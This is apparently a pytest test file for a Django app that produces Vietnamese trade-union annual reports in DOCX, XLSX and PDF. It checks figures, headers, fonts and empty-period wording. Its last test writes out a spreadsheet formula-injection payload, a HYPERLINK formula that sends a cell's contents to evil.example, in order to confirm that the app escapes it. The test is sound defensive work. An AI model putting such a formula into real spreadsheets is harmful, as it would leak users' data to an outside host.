"""The report content and its three files: DOCX (python-docx), XLSX (openpyxl), PDF (pypdf)."""

from __future__ import annotations

import datetime as dt
import io
from collections.abc import Iterator

import pytest
from django.http import Http404

from congdoan.core import registry
from congdoan.core.periods import parse_period
from congdoan.reports import selectors, services
from congdoan.reports.context import build_context

from .conftest import AGREEMENT_SENTENCE, CONFERENCE_SENTENCE, MEMBERSHIP_SENTENCE

pytestmark = pytest.mark.django_db
Y2024 = parse_period("2024")
TODAY = dt.date(2025, 9, 1)


@pytest.fixture(autouse=True)
def _reports_own_sections() -> Iterator[None]:
    """These tests read the reports app's own chapters (I, II); the care app's chapter III is taken out
    meanwhile (care/tests cover it; reports/tests/test_sections.py shows an app's chapter in every file)."""
    care = registry.unregister_report_section("care")
    try:
        yield
    finally:
        if care is not None:
            registry.register_report_section(care)


def _flat(text: str) -> str:
    return " ".join(text.split())


def _rows(table) -> dict[str, dict[str, str]]:  # type: ignore[no-untyped-def]
    return {row.name: row.displays() for row in table.rows}


def test_sentences_and_tables_from_the_records(data) -> None:
    fed = data.fed
    report = selectors.report_build(user=fed.gialam, unit=fed.gl, period=Y2024, today=TODAY)
    paragraphs = [p for s in report.sections for part in s.parts for p in part.paragraphs]
    assert paragraphs == [MEMBERSHIP_SENTENCE, AGREEMENT_SENTENCE, CONFERENCE_SENTENCE]
    assert report.notes == []
    org = report.tables["org"]
    names = [r.name for r in org.rows]
    assert len(names) == 9 and names[:4] == [
        "CĐCS Công ty CP Dệt Yên Viên",
        "CĐCS Công ty CP Thực phẩm Kiêu Kỵ",
        "CĐCS Công ty CP Vận tải Đông Dư",
        "CĐCS Công ty May Gia Lâm",
    ]
    rows = _rows(org)
    gl1 = rows["CĐCS Công ty May Gia Lâm"]
    assert (gl1["admitted"], gl1["admitted_target"], gl1["admitted_pct"], gl1["members"]) == (
        "3",
        "2",
        "150,00%",
        "3",
    )
    assert rows["CĐCS Trường THCS Đặng Xá"]["admitted_target"] == ""  # no target: no "đạt"
    assert rows["CĐCS Công ty TNHH Bao bì Cổ Bi"]["founded"] == "1"
    assert org.total.displays() == {
        "admitted": "5",
        "admitted_target": "4",
        "admitted_pct": "125,00%",
        "members": "6",
        "founded": "1",
        "cdcs": "9",
    }
    agreement = report.tables["agreement"]
    assert agreement.total.displays() == {
        "new": "5",
        "new_target": "4",
        "new_pct": "125,00%",
        "with_valid": "7",
        "enterprise": "8",
        "coverage_pct": "87,50%",
        "grade_ab": "4",
        "graded": "7",
        "grade_ab_pct": "57,14%",
    }
    by_unit = _rows(agreement)
    # Re-signed in 2024: holds an agreement, but not a new one; lapsed in 2023: none at the end.
    resigned = by_unit["CĐCS Công ty TNHH Điện tử Ninh Hiệp"]
    assert (resigned["new"], resigned["with_valid"], resigned["grade_ab"], resigned["graded"]) == (
        "0",
        "1",
        "0",
        "1",
    )
    lapsed = by_unit["CĐCS Công ty CP Vận tải Đông Dư"]
    assert (lapsed["new"], lapsed["with_valid"], lapsed["enterprise"], lapsed["coverage_pct"]) == (
        "0",
        "0",
        "1",
        "0,00%",
    )
    assert by_unit["CĐCS Trường THCS Đặng Xá"]["coverage_pct"] == "—"  # a school is no enterprise
    conference = report.tables["conference"]
    assert conference.has_data
    assert conference.total.displays() == {
        "workers_conf": "6",
        "enterprises": "8",
        "workers_conf_pct": "75,00%",
        "civil_conf": "1",
        "public_bodies": "1",
        "civil_conf_pct": "100,00%",
        "dialogues": "3",
    }
    assert _rows(conference)["CĐCS Công ty May Gia Lâm"]["dialogues"] == "2"


def test_earlier_years_count_their_own_records(data) -> None:
    """2023: the 2021 and 2022 agreements hold (GL8's lapsed on 30/04/2023); GL8's conference of 2023."""
    fed = data.fed
    report = selectors.report_build(user=fed.gialam, unit=fed.gl, period=parse_period("2023"), today=TODAY)
    paragraphs = [p for s in report.sections for part in s.parts for p in part.paragraphs]
    assert paragraphs[1] == (
        "Năm 2023, toàn huyện không có bản thỏa ước lao động tập thể ký kết mới; "
        "có 2/7 CĐCS có thỏa ước (28,57%), trong đó 2/2 bản xếp loại A, B (100,00%)."
    )
    assert paragraphs[2].startswith(
        "Năm 2023, toàn huyện có 1/7 doanh nghiệp đã tổ chức Hội nghị người lao động (14,29%);"
    )


def test_figures_link_to_their_records(data) -> None:
    fed = data.fed
    report = selectors.report_build(user=fed.gialam, unit=fed.gl, period=Y2024, today=TODAY)
    gl1 = next(r for r in report.tables["org"].rows if r.code == "GL1")
    assert gl1.cells["admitted"].url.endswith("?unit=GL1&from=2024-01-01&to=2024-12-31")
    assert report.tables["org"].total.cells["cdcs"].url.startswith("/")
    new = report.tables["agreement"].total.cells["new"]
    assert new.url.startswith("/") and new.url.endswith("?unit=GL&from=2024-01-01&to=2024-12-31")
    assert report.tables["conference"].total.cells["dialogues"].url.startswith("/")


def test_header_and_context(data) -> None:
    fed = data.fed
    report = selectors.report_build(
        user=fed.gialam, unit=fed.gl, period=Y2024, today=TODAY, issued_on=dt.date(2025, 1, 5)
    )
    ctx = build_context(report)
    assert ctx["issuer_upper"] == "LIÊN ĐOÀN LAO ĐỘNG HUYỆN GIA LÂM"
    assert ctx["issuer_parent_upper"] == "LIÊN ĐOÀN LAO ĐỘNG THÀNH PHỐ HÀ NỘI"
    assert ctx["date_line"] == "Hà Nội, ngày 05 tháng 01 năm 2025"
    assert ctx["number_line"].endswith("/BC-LĐLĐ")
    assert ctx["title"] == "BÁO CÁO TỔNG KẾT CÔNG TÁC CÔNG ĐOÀN NĂM 2024"


def test_period_without_data_says_so(data) -> None:
    fed = data.fed
    report = selectors.report_build(user=fed.gialam, unit=fed.gl, period=parse_period("2005"), today=TODAY)
    paragraphs = [p for s in report.sections for part in s.parts for p in part.paragraphs]
    assert paragraphs == [
        "Chưa có số liệu về đoàn viên và công đoàn cơ sở năm 2005.",
        "Chưa có số liệu về thỏa ước lao động tập thể năm 2005.",
        "Chưa có số liệu về hội nghị người lao động, hội nghị cán bộ, công chức, viên chức và đối thoại "
        "tại nơi làm việc năm 2005.",
    ]
    assert not any(t.has_data for t in report.tables.values())
    assert report.tables["agreement"].total.displays()["new"] == "—"  # not 0
    # 2022: agreements were signed, no conference was held: only that section says so.
    y2022 = selectors.report_build(user=fed.gialam, unit=fed.gl, period=parse_period("2022"), today=TODAY)
    assert y2022.notes == [
        "Chưa có số liệu về hội nghị người lao động, hội nghị cán bộ, công chức, viên chức và đối thoại "
        "tại nơi làm việc năm 2022."
    ]
    assert y2022.tables["agreement"].has_data and not y2022.tables["conference"].has_data
    future = selectors.report_build(user=fed.gialam, unit=fed.gl, period=parse_period("2030"), today=TODAY)
    assert future.reason == "kỳ báo cáo chưa bắt đầu"
    assert all(not t.has_data for t in future.tables.values())


def test_out_of_scope_unit_is_404(data) -> None:
    fed = data.fed
    with pytest.raises(Http404):
        selectors.report_build(user=fed.gialam, unit=fed.dd, period=Y2024, today=TODAY)


def test_docx(data) -> None:
    import docx

    fed = data.fed
    blob = services.report_render(user=fed.gialam, unit=fed.gl, period=Y2024, fmt="docx")
    document = docx.Document(io.BytesIO(blob))
    texts = [p.text for p in document.paragraphs]
    assert "BÁO CÁO TỔNG KẾT CÔNG TÁC CÔNG ĐOÀN NĂM 2024" in texts
    assert MEMBERSHIP_SENTENCE in texts
    assert AGREEMENT_SENTENCE in texts
    assert CONFERENCE_SENTENCE in texts
    assert not any("{{" in t or "{%" in t for t in texts)
    header = document.tables[0].rows[0].cells
    assert "LIÊN ĐOÀN LAO ĐỘNG HUYỆN GIA LÂM" in header[0].text and "Số:" in header[0].text
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in header[1].text
    assert "Độc lập - Tự do - Hạnh phúc" in header[1].text
    assert header[1].text.strip().splitlines()[-1].startswith("Hà Nội, ngày ")
    org = document.tables[1]
    rows = [[c.text for c in r.cells] for r in org.rows]
    assert rows[2][1:8] == ["Tổng cộng", "5", "4", "125,00%", "6", "1", "9"]
    assert ["4", "CĐCS Công ty May Gia Lâm", "3", "2", "150,00%"] in [r[:5] for r in rows]
    agreement = [[c.text for c in r.cells] for r in document.tables[2].rows]
    assert agreement[2][1:11] == ["Tổng cộng", "5", "4", "125,00%", "7", "8", "87,50%", "4", "7", "57,14%"]
    conference = [[c.text for c in r.cells] for r in document.tables[3].rows]
    assert conference[2][1:9] == ["Tổng cộng", "6", "8", "75,00%", "1", "1", "100,00%", "3"]
    signature = document.tables[-1].rows[0].cells
    assert "TM. BAN THƯỜNG VỤ" in signature[1].text and "CHỦ TỊCH" in signature[1].text
    assert "Nơi nhận:" in signature[0].text and "LĐLĐ thành phố Hà Nội (để báo cáo);" in signature[0].text


def test_xlsx(data) -> None:
    from openpyxl import load_workbook

    fed = data.fed
    blob = services.report_render(user=fed.gialam, unit=fed.gl, period=Y2024, fmt="xlsx")
    wb = load_workbook(io.BytesIO(blob))
    assert wb.sheetnames == ["Thông tin", "Biểu 1", "Biểu 2", "Biểu 3"]
    ws = wb["Biểu 1"]
    assert ws["A2"].value == "TỔ CHỨC VÀ PHÁT TRIỂN ĐOÀN VIÊN NĂM 2024"
    assert "C5:F5" in {str(r) for r in ws.merged_cells.ranges}  # "Đoàn viên" over four columns
    assert ws["C5"].value == "Đoàn viên" and ws["C6"].value == "Kết nạp mới"
    assert [ws.cell(7, c).value for c in range(2, 9)] == ["Tổng cộng", 5, 4, 1.25, 6, 1, 9]
    assert ws["C7"].number_format == "#,##0" and ws["E7"].number_format == "0.00%"
    by_name = {ws.cell(r, 2).value: [ws.cell(r, c).value for c in range(1, 9)] for r in range(8, 17)}
    assert by_name["CĐCS Công ty May Gia Lâm"] == [4, "CĐCS Công ty May Gia Lâm", 3, 2, 1.5, 3, 0, 1]
    assert not any(
        isinstance(c.value, str) and c.value.startswith("=") for row in ws.iter_rows() for c in row
    )
    agreement = wb["Biểu 2"]
    assert [agreement.cell(7, c).value for c in range(3, 12)] == [5, 4, 1.25, 7, 8, 0.875, 4, 7, 0.571429]
    assert agreement["H7"].number_format == "0.00%" and agreement["K7"].number_format == "0.00%"
    conference = wb["Biểu 3"]
    assert [conference.cell(7, c).value for c in range(3, 10)] == [6, 8, 0.75, 1, 1, 1, 3]
    # A period without records: "—", never 0, and the sheet says so.
    empty = load_workbook(
        io.BytesIO(
            services.report_render(user=fed.gialam, unit=fed.gl, period=parse_period("2005"), fmt="xlsx")
        )
    )
    assert empty["Biểu 3"]["C7"].value == "—"
    assert "Chưa có số liệu về hội nghị người lao động" in " ".join(
        str(c.value) for c in empty["Thông tin"]["A"] if c.value
    )


def test_pdf(data) -> None:
    from pypdf import PdfReader

    fed = data.fed
    blob = services.report_render(user=fed.gialam, unit=fed.gl, period=Y2024, fmt="pdf")
    reader = PdfReader(io.BytesIO(blob))
    # Each page from the 2nd starts with its number (the header): left out, so a sentence that runs
    # over a page break reads whole.
    pages = [page.extract_text().lstrip() for page in reader.pages]
    pages = [pages[0]] + [t.removeprefix(str(n)) for n, t in enumerate(pages[1:], start=2)]
    text = _flat(" ".join(pages))
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in text
    assert "BÁO CÁO TỔNG KẾT CÔNG TÁC CÔNG ĐOÀN NĂM 2024" in text
    assert MEMBERSHIP_SENTENCE in text
    assert AGREEMENT_SENTENCE in text
    assert CONFERENCE_SENTENCE in text
    assert "Chưa có số liệu" not in text
    assert "TM. BAN THƯỜNG VỤ" in text


def test_pdf_font_is_liberation_serif_with_every_vietnamese_letter(data) -> None:
    """Times New Roman's metric twin (as the DOCX), embedded, and every Vietnamese letter round-trips."""
    from pypdf import PdfReader

    from congdoan.reports.pdf import ReportPDF

    fed = data.fed
    reader = PdfReader(
        io.BytesIO(services.report_render(user=fed.gialam, unit=fed.gl, period=Y2024, fmt="pdf"))
    )
    fonts: set[str] = set()
    for page in reader.pages:
        for font in (page["/Resources"].get_object().get("/Font") or {}).values():
            font = font.get_object()
            fonts.add(str(font["/BaseFont"]))
            descendants = font.get("/DescendantFonts")
            if descendants:
                descriptor = descendants[0].get_object()["/FontDescriptor"].get_object()
                assert "/FontFile2" in descriptor  # embedded, not left to the reader's fonts
    names = {name.split("+")[-1] for name in fonts}
    assert names and all(name.startswith("LiberationSerif") for name in names), names
    assert {"LiberationSerif", "LiberationSerifBold"} <= names
    # Every Vietnamese letter, in each style, written and read back.
    letters = "ĂÂĐÊÔƠƯăâđêôơư" + "".join(chr(c) for c in range(0x1EA0, 0x1EFA))
    pdf = ReportPDF()
    pdf.add_page()
    for style in ("", "B", "I", "BI"):
        pdf.set_font("LiberationSerif", style, 12)
        for start in range(0, len(letters), 24):
            pdf.cell(0, 6, letters[start : start + 24], new_x="LMARGIN", new_y="NEXT")
    back = PdfReader(io.BytesIO(bytes(pdf.output()))).pages[0].extract_text()
    assert "".join(back.split()) == letters * 4


def test_xlsx_never_turns_a_unit_name_into_a_formula(data) -> None:
    """A unit renamed ``=HYPERLINK(...)`` stays text in the biểu thống kê (formula injection)."""
    import zipfile

    from openpyxl import load_workbook

    from congdoan.org import services as org_services

    fed = data.fed
    hostile = '=HYPERLINK("http://evil.example/?x="&B8,"Xem chi tiết")'
    org_services.unit_update(actor=None, unit=fed.gl1, name=hostile)
    org_services.unit_update(actor=None, unit=fed.gl, name="@SUM(1+1)")
    blob = services.report_render(user=fed.gialam, unit=fed.gl, period=Y2024, fmt="xlsx")
    with zipfile.ZipFile(io.BytesIO(blob)) as archive:
        xml = "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml and "<f " not in xml
    wb = load_workbook(io.BytesIO(blob))
    names = [wb["Biểu 1"].cell(r, 2).value for r in range(8, 17)]
    assert "'" + hostile in names
    assert wb["Biểu 1"].cell(names.index("'" + hostile) + 8, 2).data_type == "s"
    assert wb["Biểu 1"]["A1"].value == wb["Thông tin"]["A1"].value == "'@SUM(1+1)"  # the issuer
